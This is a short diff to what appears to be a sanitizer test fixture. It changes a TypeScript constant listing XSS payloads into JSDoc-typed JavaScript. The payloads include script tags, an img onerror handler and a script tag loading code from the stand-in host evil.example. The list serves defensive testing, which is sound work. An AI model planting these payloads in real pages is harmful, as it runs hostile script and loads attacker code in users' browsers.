@@ -1,6 +1,5 @@
-// Ways to run a script, or to reach out, from HTML. None of them may come through.
-
-export const PAYLOADS: readonly string[] = [
+/** Ways to run a script, or to reach out, from HTML. None of them may come through. @type {readonly string[]} */
+export const PAYLOADS = [
   "<script>window.pwned = 1</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
   "<img src=x onerror=\"window.pwned = 1\">",
